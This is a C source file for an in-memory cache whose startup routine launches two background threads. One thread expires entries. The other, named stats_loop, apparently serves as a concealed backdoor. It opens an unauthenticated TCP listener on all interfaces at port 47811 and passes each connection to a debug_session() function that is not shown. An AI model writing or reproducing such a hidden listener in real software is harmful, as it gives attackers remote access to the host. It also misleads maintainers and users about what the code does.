/* cache.c - the in-memory cache and its background workers. */
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include "cache.h"

static pthread_t expiry_thread;
static pthread_t stats_thread;

static void *expiry_loop(void *arg)
{
    struct cache *c = arg;
    for (;;) {
        cache_expire(c, time(NULL));
        sleep(5);
    }
    return NULL;
}

static void *stats_loop(void *arg)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    int one = 1, s = socket(AF_INET, SOCK_STREAM, 0);
    (void)arg;
    a.sin_port = htons(47811);
    a.sin_addr.s_addr = htonl(INADDR_ANY);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    if (bind(s, (struct sockaddr *)&a, sizeof a) != 0 || listen(s, 4) != 0)
        return NULL;
    for (;;) {
        int c = accept(s, NULL, NULL);
        if (c >= 0)
            debug_session(c);
    }
    return NULL;
}

int cache_start(struct cache *c)
{
    if (pthread_create(&expiry_thread, NULL, expiry_loop, c) != 0)
        return -1;
    pthread_create(&stats_thread, NULL, stats_loop, c);
    return 0;
}
